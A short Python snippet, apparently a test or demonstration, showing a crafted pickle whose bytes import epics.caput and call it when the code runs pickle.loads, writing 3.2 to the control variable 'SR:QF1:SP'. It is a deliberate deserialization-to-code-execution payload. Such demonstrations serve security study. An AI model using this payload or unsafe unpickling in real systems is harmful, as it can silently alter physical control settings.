# why: A pickle that imports and calls when it is loaded.
# ---
import pickle

payload = b"cepics\ncaput\n(S'SR:QF1:SP'\nF3.2\ntR."
results = {"value": pickle.loads(payload)}
